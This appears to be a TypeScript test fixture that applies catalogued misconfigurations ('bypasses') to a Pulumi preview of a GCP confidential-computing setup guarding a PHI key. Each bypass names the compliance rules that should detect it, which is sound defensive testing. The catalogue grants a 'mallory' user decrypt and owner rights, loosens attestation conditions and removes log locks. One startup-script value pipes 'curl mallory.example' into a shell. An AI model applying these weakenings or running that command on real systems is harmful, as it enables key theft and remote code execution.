import type { Preview } from '../../constructs/compliance/adapters/pulumi-preview.js';
import type { Json, JsonObject } from '../corpus/mutator.js';

/** A preview that an edit changes in place. Every method throws when it finds nothing to change, so that no edit goes stale. */
export class Draft {
  readonly preview: JsonObject;

  constructor(preview: Preview) {
    this.preview = JSON.parse(JSON.stringify(preview)) as JsonObject;
  }

  private get steps(): { op: string; urn: string; newState: JsonObject }[] {
    return this.preview['steps'] as unknown as { op: string; urn: string; newState: JsonObject }[];
  }

  private step(type: string, name: string): { op: string; urn: string; newState: JsonObject } {
    const found = this.steps.find(({ urn, newState }) => newState['type'] === type && urn.endsWith(`::${name}`));
    if (!found) throw new Error(`no ${type} named ${name}`);
    return found;
  }

  /** What stands beside the inputs: `protect`. */
  state(type: string, name: string): JsonObject {
    return this.step(type, name).newState;
  }

  inputs(type: string, name: string): JsonObject {
    return this.state(type, name)['inputs'] as JsonObject;
  }

  /** Merges into an object inside the inputs; `null` removes. Path steps are keys and positions. */
  set(type: string, name: string, path: string, value: Json): void {
    const steps = path.split('.');
    const last = steps.pop() ?? '';
    let current: Json = this.inputs(type, name);
    for (const step of steps) current = (current as JsonObject)[step] as Json;
    const holder = current as JsonObject;
    if (JSON.stringify(holder[last] ?? null) === JSON.stringify(value)) throw new Error(`${name} ${path} is already ${JSON.stringify(value)}`);
    if (value === null) delete holder[last];
    else holder[last] = value;
  }

  text(type: string, name: string, path: string, change: (text: string) => string): void {
    const steps = path.split('.');
    let current: Json = this.inputs(type, name);
    for (const step of steps) current = (current as JsonObject)[step] as Json;
    this.set(type, name, path, change(current as string));
  }

  list(type: string, name: string, path: string): Json[] {
    let current: Json = this.inputs(type, name);
    for (const step of path.split('.')) current = (current as JsonObject)[step] as Json;
    return current as Json[];
  }

  remove(type: string, name: string): void {
    this.steps.splice(this.steps.indexOf(this.step(type, name)), 1);
  }

  add(type: string, name: string, inputs: JsonObject): void {
    const urn = `urn:pulumi:gcp::tee-kit::${type}::${name}`;
    this.steps.push({ op: 'create', urn, newState: { urn, type, custom: true, inputs, dependencies: [] } });
  }
}

export interface Bypass {
  readonly name: string;
  /** Where the field notes name it: a numbered bypass of section 3, or a line of section 8. */
  readonly notes: '3.1' | '3.2' | '3.3' | '3.4' | '3.5' | '3.6' | '3.7' | '8 VM' | '8 key' | '8 condition' | '8 network' | '8 logs';
  readonly apply: (draft: Draft) => void;
  /** Rules of which at least one must find it. */
  readonly rules: readonly string[];
}

const KEY = 'gcp:kms/cryptoKey:CryptoKey';
const KEY_POLICY = 'gcp:kms/cryptoKeyIAMPolicy:CryptoKeyIAMPolicy';
const RING_POLICY = 'gcp:kms/keyRingIAMPolicy:KeyRingIAMPolicy';
const DENY = 'gcp:iam/denyPolicy:DenyPolicy';
const POOL = 'gcp:iam/workloadIdentityPool:WorkloadIdentityPool';
const PROVIDER = 'gcp:iam/workloadIdentityPoolProvider:WorkloadIdentityPoolProvider';
const TEMPLATE = 'gcp:compute/regionInstanceTemplate:RegionInstanceTemplate';
const INSTANCE = 'gcp:compute/instance:Instance';
const NETWORK = 'gcp:compute/network:Network';
const SUBNETWORK = 'gcp:compute/subnetwork:Subnetwork';
const FIREWALL = 'gcp:compute/networkFirewallPolicyWithRules:NetworkFirewallPolicyWithRules';
const BUCKET = 'gcp:storage/bucket:Bucket';
const LOG_BUCKET = 'gcp:logging/projectBucketConfig:ProjectBucketConfig';
const SINK = 'gcp:logging/projectSink:ProjectSink';
const AUDIT = 'gcp:projects/iAMAuditConfig:IAMAuditConfig';

const KEY_ID = '${gcp:kms/cryptoKey:CryptoKey::phi-key.id}';
const RING_ID = '${gcp:kms/keyRing:KeyRing::phi-key-ring.id}';
const NETWORK_ID = '${gcp:compute/network:Network::network.id}';
const TEE_EMAIL = 'inference-prod-tee@phi-inference.iam.gserviceaccount.com';
const MALLORY = 'user:mallory@example.org';
const POOL_PREFIX = 'principalSet://iam.googleapis.com/projects/210987654321/locations/global/workloadIdentityPools/inference-prod';
const EVERYONE = 'principalSet://goog/public:all';

interface Binding { role: string; members: string[]; condition?: unknown }

/** Edits the bindings inside the key's policy. */
const bindings = (change: (list: Binding[]) => void) => (draft: Draft): void => {
  draft.text(KEY_POLICY, 'phi-key', 'policyData', (text) => {
    const policy = JSON.parse(text) as { bindings: Binding[] };
    change(policy.bindings);
    return JSON.stringify(policy);
  });
};
const decrypters = (change: (members: string[]) => string[]) => bindings((list) => {
  for (const binding of list) if (binding.role.endsWith('EncrypterDecrypter')) binding.members = change(binding.members);
});
const condition = (change: (text: string) => string) => (draft: Draft): void => draft.text(PROVIDER, 'phi-key', 'attributeCondition', change);
/** Removes or replaces the conjunct about one claim. */
const conjunct = (claim: string, replacement?: string) => condition((text) => text.split(' && ').flatMap((one) => (one.includes(claim) ? (replacement === undefined ? [] : [replacement]) : [one])).join(' && '));
const set = (type: string, name: string, path: string, value: Json) => (draft: Draft): void => draft.set(type, name, path, value);
const all = (...edits: ((draft: Draft) => void)[]) => (draft: Draft): void => { for (const edit of edits) edit(draft); };
const add = (type: string, name: string, inputs: JsonObject) => (draft: Draft): void => draft.add(type, name, inputs);
const remove = (type: string, name: string) => (draft: Draft): void => draft.remove(type, name);
const metadata = (key: string, value: string | null) => set(TEMPLATE, 'tee', `metadata.${key}`, value);
const projectMember = (name: string, role: string, member: string, project = 'phi-inference-keys') => add('gcp:projects/iAMMember:IAMMember', name, { project, role, member });
const firewall = (rule: string, change: (rule: JsonObject) => void) => (draft: Draft): void => {
  const found = draft.list(FIREWALL, 'network', 'rules').find((one) => (one as JsonObject)['ruleName'] === rule);
  if (!found) throw new Error(`no firewall rule ${rule}`);
  change(found as JsonObject);
};

/** Excepts a principal from the rule that refuses changes of the gate. */
const excepted = (principal: string) => (draft: Draft): void => { draft.list(DENY, 'phi-key', 'rules.1.denyRule.exceptionPrincipals').push(principal); };

const GATED = ['phi-key-release-attested', 'key-release-defence-in-depth'] as const;
const CHANGERS = ['gate-change-restricted', 'key-administrators-separated', ...GATED] as const;
const IDENTITY = ['tee-identity-least-privilege', ...CHANGERS] as const;

const KEY_BYPASSES: readonly Bypass[] = [
  // Project owners can use every key of their project.
  { notes: '3.1', name: 'no deny policy', apply: remove(DENY, 'phi-key'), rules: GATED },
  { notes: '3.1', name: 'a deny policy that leaves delegation open', apply: (draft) => { draft.list(DENY, 'phi-key', 'rules.0.denyRule.deniedPermissions').pop(); }, rules: GATED },
  { notes: '3.1', name: 'a deny policy that excepts a person', apply: (draft) => { draft.list(DENY, 'phi-key', 'rules.0.denyRule.exceptionPrincipals').push('principal://goog/subject/mallory@example.org'); }, rules: GATED },
  { notes: '3.1', name: 'a deny policy that excepts everybody', apply: set(DENY, 'phi-key', 'rules.0.denyRule.exceptionPrincipals', [EVERYONE]), rules: GATED },
  { notes: '3.1', name: 'a deny policy under a condition', apply: set(DENY, 'phi-key', 'rules.0.denyRule.denialCondition', { expression: 'resource.matchTag("1/env", "prod")', title: 'only production' }), rules: GATED },
  { notes: '3.1', name: 'a deny policy on the wrong project', apply: set(DENY, 'phi-key', 'parent', 'cloudresourcemanager.googleapis.com%2Fprojects%2Fphi-inference'), rules: GATED },
  { notes: '3.1', name: 'a deny policy for some', apply: set(DENY, 'phi-key', 'rules.0.denyRule.deniedPrincipals', ['principalSet://goog/group/contractors@example.org']), rules: GATED },

  // Whoever may change a policy may open the gate.
  { notes: '3.2', name: 'no authoritative policy on the key ring', apply: remove(RING_POLICY, 'phi-key-ring'), rules: GATED },
  { notes: '3.2', name: 'a binding on the key ring', apply: set(RING_POLICY, 'phi-key-ring', 'policyData', JSON.stringify({ bindings: [{ role: 'roles/cloudkms.cryptoKeyDecrypter', members: [MALLORY] }] })), rules: GATED },
  { notes: '3.2', name: 'a member on the key ring beside the policy', apply: add('gcp:kms/keyRingIAMMember:KeyRingIAMMember', 'ring', { keyRingId: RING_ID, role: 'roles/cloudkms.cryptoKeyDecrypter', member: MALLORY }), rules: GATED },
  { notes: '3.2', name: 'Cloud KMS administrators of the project', apply: projectMember('admin', 'roles/cloudkms.admin', MALLORY), rules: CHANGERS },
  { notes: '3.2', name: 'an owner of the key\'s project', apply: projectMember('owner', 'roles/owner', MALLORY), rules: CHANGERS },
  { notes: '3.2', name: 'an administrator of the project\'s policies', apply: projectMember('iam-admin', 'roles/resourcemanager.projectIamAdmin', MALLORY), rules: CHANGERS },
  { notes: '3.2', name: 'an administrator role that decrypts', apply: (draft) => { draft.list('gcp:projects/iAMCustomRole:IAMCustomRole', 'phi-key-administrator', 'permissions').push('cloudkms.cryptoKeyVersions.useToDecrypt'); }, rules: CHANGERS },
  { notes: '3.2', name: 'key administrators who change the policy', apply: all((draft) => { draft.list('gcp:projects/iAMCustomRole:IAMCustomRole', 'phi-key-administrator', 'permissions').push('cloudkms.cryptoKeys.setIamPolicy'); }, excepted('principalSet://goog/group/key-admins@example.org')), rules: CHANGERS },
  { notes: '3.2', name: 'another person in the gate role', apply: all(bindings((list) => { list.find(({ role }) => role.endsWith('_gate'))?.members.push(MALLORY); }), excepted('principal://goog/subject/mallory@example.org')), rules: CHANGERS },
  { notes: '3.2', name: 'everybody excepted from the guard on changes', apply: excepted(EVERYONE), rules: CHANGERS },
  { notes: '3.2', name: 'a decrypter of the organisation', apply: add('gcp:organizations/iAMMember:IAMMember', 'organization', { orgId: '345678901234', role: 'roles/cloudkms.cryptoKeyDecrypter', member: MALLORY }), rules: GATED },
  { notes: '3.2', name: 'the guard on policy changes gone', apply: (draft) => { draft.list(DENY, 'phi-key', 'rules').pop(); }, rules: CHANGERS },

  // Whoever may add a provider makes tokens of their own.
  { notes: '3.3', name: 'a second provider that maps the digest', apply: add(PROVIDER, 'second', { project: 'phi-inference-keys', workloadIdentityPoolId: '${gcp:iam/workloadIdentityPool:WorkloadIdentityPool::phi-key.workloadIdentityPoolId}', workloadIdentityPoolProviderId: 'second', attributeMapping: { 'google.subject': 'assertion.sub', 'attribute.image_digest': 'assertion.digest' }, oidc: { issuerUri: 'https://mallory.example' } }), rules: GATED },
  { notes: '3.3', name: 'another issuer', apply: set(PROVIDER, 'phi-key', 'oidc.issuerUri', 'https://mallory.example'), rules: GATED },
  { notes: '3.3', name: 'uploaded signing keys', apply: set(PROVIDER, 'phi-key', 'oidc.jwksJson', '{"keys":[]}'), rules: GATED },
  { notes: '3.3', name: 'a constant for a digest', apply: (draft) => { (draft.inputs(PROVIDER, 'phi-key')['attributeMapping'] as JsonObject)['attribute.image_digest'] = `"sha256:${'a'.repeat(64)}"`; }, rules: GATED },
  { notes: '3.3', name: 'a pool administrator', apply: projectMember('pool-admin', 'roles/iam.workloadIdentityPoolAdmin', MALLORY), rules: CHANGERS },

  // Wide bindings and impersonation.
  { notes: '3.4', name: 'the whole pool', apply: decrypters(() => [`${POOL_PREFIX}/*`]), rules: GATED },
  { notes: '3.4', name: 'a person', apply: decrypters((members) => [...members, MALLORY]), rules: GATED },
  { notes: '3.4', name: 'the VM\'s own service account', apply: decrypters((members) => [...members, `serviceAccount:${TEE_EMAIL}`]), rules: GATED },
  { notes: '3.4', name: 'everybody', apply: decrypters((members) => [...members, 'allAuthenticatedUsers']), rules: GATED },
  { notes: '3.4', name: 'a digest that nobody approved', apply: decrypters((members) => [...members, `${POOL_PREFIX}/attribute.image_digest/sha256:${'b'.repeat(64)}`]), rules: ['measurement-approved', ...GATED] },
  { notes: '3.4', name: 'the VM\'s service account holds a KMS role of the project', apply: projectMember('tee-kms', 'roles/cloudkms.cryptoKeyDecrypter', `serviceAccount:${TEE_EMAIL}`), rules: IDENTITY },
  { notes: '3.4', name: 'the pool impersonates the VM\'s service account', apply: add('gcp:serviceaccount/iAMMember:IAMMember', 'impersonate', { serviceAccountId: '${gcp:serviceaccount/account:Account::tee.name}', role: 'roles/iam.workloadIdentityUser', member: `${POOL_PREFIX}/*` }), rules: IDENTITY },
  { notes: '3.4', name: 'a person makes tokens of the VM\'s service account', apply: add('gcp:serviceaccount/iAMMember:IAMMember', 'tokens', { serviceAccountId: '${gcp:serviceaccount/account:Account::tee.name}', role: 'roles/iam.serviceAccountTokenCreator', member: MALLORY }), rules: IDENTITY },
  { notes: '3.4', name: 'a person runs VMs as the TEE\'s service account', apply: add('gcp:serviceaccount/iAMMember:IAMMember', 'use', { serviceAccountId: '${gcp:serviceaccount/account:Account::tee.name}', role: 'roles/iam.serviceAccountUser', member: MALLORY }), rules: IDENTITY },

  // Debug.
  { notes: '3.5', name: 'a debug image admitted', apply: conjunct('dbgstat'), rules: ['measurement-debug-refused', ...GATED] },
  { notes: '3.5', name: 'debug among the statuses', apply: conjunct('dbgstat', 'assertion.dbgstat in ["disabled-since-boot", "enabled"]'), rules: ['measurement-debug-refused', ...GATED] },

  // Conjuncts that the samples leave out.
  { notes: '3.6', name: 'no project', apply: conjunct('submods.gce.project'), rules: GATED },
  { notes: '3.6', name: 'no hardware', apply: conjunct('hwmodel'), rules: GATED },
  { notes: '3.6', name: 'shielded VMs among the hardware', apply: conjunct('hwmodel', 'assertion.hwmodel in ["GCP_INTEL_TDX", "GCP_SHIELDED_VM"]'), rules: GATED },
  { notes: '3.6', name: 'no secure boot', apply: conjunct('secboot'), rules: GATED },
  { notes: '3.6', name: 'commands overridden', apply: conjunct('cmd_override'), rules: GATED },
  { notes: '3.6', name: 'environment overridden', apply: conjunct('env_override'), rules: GATED },
  { notes: '3.6', name: 'unsupported images', apply: conjunct('support_attributes', '"USABLE" in assertion.submods.confidential_space.support_attributes'), rules: GATED },
  { notes: '3.6', name: 'experimental images', apply: conjunct('support_attributes', '("STABLE" in assertion.submods.confidential_space.support_attributes || "EXPERIMENTAL" in assertion.submods.confidential_space.support_attributes)'), rules: GATED },
  { notes: '3.6', name: 'a version in place of support', apply: conjunct('support_attributes', 'int(assertion.swversion[0]) >= 250300'), rules: GATED },
  { notes: '3.6', name: 'a mutable tag', apply: metadata('tee-image-reference', 'us-docker.pkg.dev/phi-inference/images/inference:latest'), rules: ['tee-image-pinned'] },
  { notes: '3.6', name: 'a command in the metadata', apply: metadata('tee-cmd', '["/bin/sh"]'), rules: ['tee-metadata-protected'] },
  { notes: '3.6', name: 'an environment in the metadata', apply: metadata('tee-env-UPSTREAM', 'mallory.example'), rules: ['tee-metadata-protected'] },

  // Destruction.
  { notes: '3.7', name: 'a day to regret destruction', apply: set(KEY, 'phi-key', 'destroyScheduledDuration', '86400s'), rules: ['key-deletion-guarded'] },
  { notes: '3.7', name: 'a key that its stack may delete', apply: set(KEY, 'phi-key', 'deletionPolicy', 'DELETE'), rules: ['key-deletion-guarded'] },
  { notes: '3.7', name: 'a key without protection of the engine', apply: (draft) => { delete draft.state(KEY, 'phi-key')['protect']; }, rules: ['key-deletion-guarded'] },
  { notes: '3.7', name: 'a plaintext in the state', apply: add('gcp:kms/secretCiphertext:SecretCiphertext', 'secret', { cryptoKey: KEY_ID, plaintext: 'data key' }), rules: ['phi-key-dedicated', 'key-administrators-separated', ...GATED] },
];

const VM_LINES: readonly Bypass[] = [
  { notes: '8 VM', name: 'the type left to the provider (template)', apply: set(TEMPLATE, 'tee', 'confidentialInstanceConfig', { enableConfidentialCompute: true }), rules: ['tee-confidential-type'] },
  { notes: '8 VM', name: 'the type left to the provider (instance)', apply: set(INSTANCE, 'gateway-host', 'confidentialInstanceConfig', { enableConfidentialCompute: true }), rules: ['tee-confidential-type'] },
  { notes: '8 VM', name: 'no confidential computing', apply: set(TEMPLATE, 'tee', 'confidentialInstanceConfig', null), rules: ['tee-confidential-type'] },
  { notes: '8 VM', name: 'a machine that cannot run the type', apply: set(TEMPLATE, 'tee', 'machineType', 'n2-standard-4'), rules: ['tee-instance-supported'] },
  { notes: '8 VM', name: 'a zone without the type', apply: set(INSTANCE, 'gateway-host', 'zone', 'us-central1-f'), rules: ['tee-instance-supported'] },
  { notes: '8 VM', name: 'SEV-SNP with Confidential Space', apply: all(set(TEMPLATE, 'tee', 'confidentialInstanceConfig.confidentialInstanceType', 'SEV_SNP'), set(TEMPLATE, 'tee', 'machineType', 'n2d-standard-4'), set(TEMPLATE, 'tee', 'minCpuPlatform', 'AMD Milan')), rules: ['tee-instance-supported', 'tee-confidential-type'] },
  { notes: '8 VM', name: 'live migration of TDX', apply: set(TEMPLATE, 'tee', 'scheduling.onHostMaintenance', 'MIGRATE'), rules: ['tee-instance-supported', 'tee-confidential-type'] },
  { notes: '8 VM', name: 'no secure boot', apply: set(TEMPLATE, 'tee', 'shieldedInstanceConfig.enableSecureBoot', false), rules: ['tee-secure-boot'] },
  { notes: '8 VM', name: 'no virtual TPM', apply: set(INSTANCE, 'gateway-host', 'shieldedInstanceConfig.enableVtpm', false), rules: ['tee-secure-boot'] },
  { notes: '8 VM', name: 'no integrity monitoring', apply: set(TEMPLATE, 'tee', 'shieldedInstanceConfig.enableIntegrityMonitoring', false), rules: ['tee-secure-boot'] },
  { notes: '8 VM', name: 'an external IPv4 address', apply: set(TEMPLATE, 'tee', 'networkInterfaces.0.accessConfigs', [{ networkTier: 'PREMIUM' }]), rules: ['network-no-internet-path'] },
  { notes: '8 VM', name: 'an external IPv6 address', apply: set(INSTANCE, 'gateway-host', 'networkInterfaces.0.ipv6AccessConfigs', [{ networkTier: 'PREMIUM' }]), rules: ['network-no-internet-path'] },
  { notes: '8 VM', name: 'packets of others forwarded', apply: set(TEMPLATE, 'tee', 'canIpForward', true), rules: ['network-deny-by-default', 'network-two-walls', 'network-no-internet-path', 'tee-identity-least-privilege', 'network-flows-match-workload'] },
  { notes: '8 VM', name: 'the default service account', apply: set(TEMPLATE, 'tee', 'serviceAccount.email', '123456789012-compute@developer.gserviceaccount.com'), rules: ['tee-identity-least-privilege'] },
  { notes: '8 VM', name: 'a boot disk without a customer key', apply: set(TEMPLATE, 'tee', 'disks.0.diskEncryptionKey', null), rules: ['tee-disk-encrypted'] },
  { notes: '8 VM', name: 'a second disk without a customer key', apply: (draft) => { draft.list(TEMPLATE, 'tee', 'disks').push({ boot: false, interface: 'NVME', diskType: 'pd-balanced', diskSizeGb: 100 }); }, rules: ['tee-disk-encrypted'] },
  { notes: '8 VM', name: 'a software key for the disks', apply: set(KEY, 'cmek-disk', 'versionTemplate.protectionLevel', 'SOFTWARE'), rules: ['key-hardware-protected', 'tee-disk-encrypted'] },
  { notes: '8 VM', name: 'a disk that TDX excludes', apply: set(TEMPLATE, 'tee', 'disks.0.diskType', 'pd-ssd'), rules: ['tee-instance-supported', 'tee-disk-encrypted'] },
  { notes: '8 VM', name: 'a SCSI disk', apply: set(TEMPLATE, 'tee', 'disks.0.interface', 'SCSI'), rules: ['tee-instance-supported', 'tee-disk-encrypted'] },
  { notes: '8 VM', name: 'no deletion protection', apply: set(INSTANCE, 'gateway-host', 'deletionProtection', false), rules: ['tee-member-admission', 'key-deletion-guarded'] },
  { notes: '8 VM', name: 'a revoked disk key that stops nothing', apply: set(TEMPLATE, 'tee', 'keyRevocationActionType', 'NONE'), rules: ['tee-member-admission', 'tee-disk-encrypted'] },
  { notes: '8 VM', name: 'a group that replaces no machine by itself', apply: set('gcp:compute/regionInstanceGroupManager:RegionInstanceGroupManager', 'tee', 'updatePolicy.type', 'OPPORTUNISTIC'), rules: ['tee-member-admission'] },
  { notes: '8 VM', name: 'no scheduled replacement', apply: all(remove('gcp:cloudscheduler/job:Job', 'refresh-a'), remove('gcp:cloudscheduler/job:Job', 'refresh-b')), rules: ['tee-member-admission'] },
  { notes: '8 VM', name: 'an image of another project', apply: set(TEMPLATE, 'tee', 'disks.0.sourceImage', 'projects/mallory/global/images/confidential-space-260700'), rules: ['tee-image-pinned', 'measurement-debug-refused'] },
  { notes: '8 VM', name: 'the debug image', apply: set(TEMPLATE, 'tee', 'disks.0.sourceImage', 'projects/confidential-space-images/global/images/family/confidential-space-debug'), rules: ['measurement-debug-refused', 'tee-image-pinned'] },
  { notes: '8 VM', name: 'metadata outside the allow-list', apply: metadata('startup-script', 'curl mallory.example | sh'), rules: ['tee-metadata-protected', 'tee-no-interactive-access'] },
  { notes: '8 VM', name: 'a fake verifier', apply: metadata('test-fake-verifier', 'true'), rules: ['tee-metadata-protected'] },
  { notes: '8 VM', name: 'an image of no digest', apply: metadata('tee-image-reference', null), rules: ['tee-image-pinned', 'tee-metadata-protected'] },
  { notes: '8 VM', name: 'the container\'s output in a log', apply: metadata('tee-container-log-redirect', 'true'), rules: ['tee-metadata-protected'] },
  { notes: '8 VM', name: 'the serial console', apply: set(INSTANCE, 'gateway-host', 'metadata.serial-port-enable', 'TRUE'), rules: ['tee-no-interactive-access', 'tee-metadata-protected'] },
  { notes: '8 VM', name: 'keys of the project', apply: set(INSTANCE, 'gateway-host', 'metadata.block-project-ssh-keys', 'FALSE'), rules: ['tee-no-interactive-access', 'tee-metadata-protected'] },
];

const KEY_LINES: readonly Bypass[] = [
  { notes: '8 key', name: 'a software key', apply: set(KEY, 'phi-key', 'versionTemplate.protectionLevel', 'SOFTWARE'), rules: ['key-hardware-protected'] },
  { notes: '8 key', name: 'imported key material', apply: set(KEY, 'phi-key', 'importOnly', true), rules: ['key-hardware-protected'] },
  { notes: '8 key', name: 'no rotation', apply: set(KEY, 'phi-key', 'rotationPeriod', null), rules: ['key-rotation'] },
  { notes: '8 key', name: 'two policies of one key', apply: add(KEY_POLICY, 'second', { cryptoKeyId: KEY_ID, policyData: '{"bindings":[]}' }), rules: GATED },
  { notes: '8 key', name: 'no authoritative policy on the key', apply: remove(KEY_POLICY, 'phi-key'), rules: GATED },
  { notes: '8 key', name: 'a member beside the policy', apply: add('gcp:kms/cryptoKeyIAMMember:CryptoKeyIAMMember', 'member', { cryptoKeyId: KEY_ID, role: 'roles/cloudkms.cryptoKeyDecrypter', member: MALLORY }), rules: GATED },
  { notes: '8 key', name: 'exceptions of the deny policy beyond the bindings', apply: (draft) => { draft.list(DENY, 'phi-key', 'rules.0.denyRule.exceptionPrincipals').push(`${POOL_PREFIX}/*`); }, rules: GATED },
  { notes: '8 key', name: 'a key file of the TEE\'s service account', apply: add('gcp:serviceaccount/key:Key', 'file', { serviceAccountId: '${gcp:serviceaccount/account:Account::tee.name}' }), rules: IDENTITY },
  { notes: '8 key', name: 'an editor of the key\'s project', apply: projectMember('editor', 'roles/editor', MALLORY), rules: CHANGERS },
  { notes: '8 key', name: 'an authoritative policy of the key\'s project', apply: add('gcp:projects/iAMPolicy:IAMPolicy', 'project', { project: 'phi-inference-keys', policyData: JSON.stringify({ bindings: [{ role: 'roles/owner', members: [MALLORY] }] }) }), rules: CHANGERS },
  { notes: '8 key', name: 'a policy that is not known', apply: set(KEY_POLICY, 'phi-key', 'policyData', '04da6b54-80e4-46f7-96ec-b56ff0331ba9'), rules: GATED },
  { notes: '8 key', name: 'a policy that is no JSON', apply: set(KEY_POLICY, 'phi-key', 'policyData', 'bindings: []'), rules: GATED },
  { notes: '8 key', name: 'a role that nobody can look up', apply: bindings((list) => { list.push({ role: 'organizations/345678901234/roles/helpers', members: [MALLORY] }); }), rules: GATED },
  { notes: '8 key', name: 'a PHI key in the workload\'s project', apply: set('gcp:kms/keyRing:KeyRing', 'phi-key-ring', 'project', 'phi-inference'), rules: ['phi-key-dedicated', ...GATED] },
];

const CONDITION_LINES: readonly Bypass[] = [
  { notes: '8 condition', name: 'no condition', apply: set(PROVIDER, 'phi-key', 'attributeCondition', null), rules: GATED },
  { notes: '8 condition', name: 'an alternative', apply: condition((text) => `${text} || assertion.swname == "GCE"`), rules: GATED },
  { notes: '8 condition', name: 'a condition that cannot be read', apply: condition((text) => `${text} && assertion.swname.matches(`), rules: GATED },
  { notes: '8 condition', name: 'a condition that is not known', apply: set(PROVIDER, 'phi-key', 'attributeCondition', '04da6b54-80e4-46f7-96ec-b56ff0331ba9'), rules: GATED },
  { notes: '8 condition', name: 'a digest of the condition that is bound to nothing approved', apply: condition((text) => text.replace(/image_digest in \[/, `image_digest in ["sha256:${'b'.repeat(64)}", `)), rules: ['measurement-approved', ...GATED] },
  { notes: '8 condition', name: 'a digest that was revoked', apply: all(condition((text) => text.replace(/image_digest in \[/, `image_digest in ["sha256:${'e'.repeat(64)}", `)), decrypters((members) => [...members, `${POOL_PREFIX}/attribute.image_digest/sha256:${'e'.repeat(64)}`])), rules: ['measurement-approved', ...GATED] },
  { notes: '8 condition', name: 'longer than the API takes', apply: condition((text) => `${text} && assertion.iss != "${'x'.repeat(4096)}"`), rules: ['attestation-condition-effective', ...GATED] },
  { notes: '8 condition', name: 'a subject that can be longer than the limit', apply: set(PROVIDER, 'phi-key', 'attributeMapping', { 'google.subject': 'assertion.sub', 'attribute.image_digest': 'assertion.submods.container.image_digest' }), rules: ['attestation-condition-effective'] },
  { notes: '8 condition', name: 'an issuer that only looks like it', apply: set(PROVIDER, 'phi-key', 'oidc.issuerUri', 'https://confidentialcomputing.googleapis.com.mallory.example/'), rules: GATED },
  { notes: '8 condition', name: 'any audience', apply: set(PROVIDER, 'phi-key', 'oidc.allowedAudiences', ['https://sts.googleapis.com', 'https://mallory.example']), rules: ['attestation-condition-effective', ...GATED] },
  { notes: '8 condition', name: 'a pool that passes tokens of others', apply: set(POOL, 'phi-key', 'mode', 'TRUST_DOMAIN'), rules: ['attestation-condition-effective', ...GATED] },
];

const NETWORK_LINES: readonly Bypass[] = [
  { notes: '8 network', name: 'subnetworks made by the provider', apply: set(NETWORK, 'network', 'autoCreateSubnetworks', true), rules: ['network-deny-by-default'] },
  { notes: '8 network', name: 'the default routes kept', apply: set(NETWORK, 'network', 'deleteDefaultRoutesOnCreate', false), rules: ['network-no-internet-path'] },
  { notes: '8 network', name: 'a default route', apply: add('gcp:compute/route:Route', 'out', { project: 'phi-inference', name: 'out', network: NETWORK_ID, destRange: '0.0.0.0/0', nextHopGateway: 'default-internet-gateway' }), rules: ['network-no-internet-path'] },
  { notes: '8 network', name: 'no flow logs', apply: set(SUBNETWORK, 'network-tee', 'logConfig', null), rules: ['network-flow-logs'] },
  { notes: '8 network', name: 'one flow in ten logged', apply: set(SUBNETWORK, 'network-tee', 'logConfig.flowSampling', 0.1), rules: ['network-flow-logs'] },
  { notes: '8 network', name: 'no DNS log', apply: set('gcp:dns/policy:Policy', 'network', 'enableLogging', false), rules: ['network-dns-controlled'] },
  { notes: '8 network', name: 'a NAT', apply: add('gcp:compute/routerNat:RouterNat', 'nat', { project: 'phi-inference', router: 'router', region: 'us-central1', natIpAllocateOption: 'AUTO_ONLY', sourceSubnetworkIpRangesToNat: 'ALL_SUBNETWORKS_ALL_IP_RANGES' }), rules: ['network-no-internet-path'] },
  { notes: '8 network', name: 'an external address', apply: set('gcp:compute/forwardingRule:ForwardingRule', 'gateway', 'loadBalancingScheme', 'EXTERNAL'), rules: ['network-no-internet-path', 'gateway-tls-ends-in-tee'] },
  { notes: '8 network', name: 'egress that is not denied', apply: (draft) => { const rules = draft.list(FIREWALL, 'network', 'rules'); rules.splice(rules.findIndex((rule) => (rule as JsonObject)['ruleName'] === 'deny-egress-ipv4'), 1); }, rules: ['network-deny-by-default', 'network-two-walls', 'network-no-internet-path', 'network-flows-match-workload'] },
  { notes: '8 network', name: 'ingress from everywhere', apply: firewall('ingress-health', (rule) => { (rule['match'] as JsonObject)['srcIpRanges'] = ['0.0.0.0/0']; }), rules: ['network-no-open-ingress'] },
  { notes: '8 network', name: 'a source beyond the flows, behind a closed way out', apply: firewall('ingress-in', (rule) => { ((rule['match'] as JsonObject)['srcSecureTags'] as Json[]).push({ name: '${gcp:tags/tagValue:TagValue::network-store.id}' }); }), rules: ['network-two-walls', 'network-flows-match-workload'] },
  { notes: '8 network', name: 'a way out beyond the flows, before a closed way in', apply: firewall('ingress-out', (rule) => { (rule['match'] as JsonObject)['destIpRanges'] = ['10.20.0.0/16']; }), rules: ['network-two-walls', 'network-flows-match-workload'] },
  { notes: '8 network', name: 'a policy after the legacy rules', apply: set(NETWORK, 'network', 'networkFirewallPolicyEnforcementOrder', null), rules: ['network-deny-by-default', 'network-two-walls'] },
  { notes: '8 network', name: 'a policy that is attached to nothing', apply: remove('gcp:compute/networkFirewallPolicyAssociation:NetworkFirewallPolicyAssociation', 'network'), rules: ['network-deny-by-default', 'network-two-walls'] },
  { notes: '8 network', name: 'TLS 1.2', apply: all(
    add('gcp:compute/regionSslPolicy:RegionSslPolicy', 'old', { project: 'phi-inference', region: 'us-central1', name: 'old', minTlsVersion: 'TLS_1_2', profile: 'MODERN' }),
    add('gcp:compute/regionTargetHttpsProxy:RegionTargetHttpsProxy', 'old', { project: 'phi-inference', region: 'us-central1', name: 'old', urlMap: 'map', sslPolicy: '${gcp:compute/regionSslPolicy:RegionSslPolicy::old.id}', serverTlsPolicy: 'policy', sslCertificates: ['certificate'] }),
    add('gcp:compute/forwardingRule:ForwardingRule', 'old', { project: 'phi-inference', region: 'us-central1', name: 'old', loadBalancingScheme: 'INTERNAL_MANAGED', target: '${gcp:compute/regionTargetHttpsProxy:RegionTargetHttpsProxy::old.id}', portRange: '443', labels: { 'phi-plane': 'no-phi' } }),
  ), rules: ['gateway-tls-ends-in-tee'] },
];

const LOG_LINES: readonly Bypass[] = [
  { notes: '8 logs', name: 'an archive without a lock', apply: set(BUCKET, 'logs-archive', 'retentionPolicy.isLocked', false), rules: ['audit-log-immutable'] },
  { notes: '8 logs', name: 'a log bucket without a lock', apply: set(LOG_BUCKET, 'logs', 'locked', false), rules: ['audit-log-immutable'] },
  { notes: '8 logs', name: 'an archive for a year', apply: set(BUCKET, 'logs-archive', 'retentionPolicy.retentionPeriod', '31536000'), rules: ['audit-log-retention'] },
  { notes: '8 logs', name: 'a log bucket for a year', apply: set(LOG_BUCKET, 'logs', 'retentionDays', 365), rules: ['audit-log-retention'] },
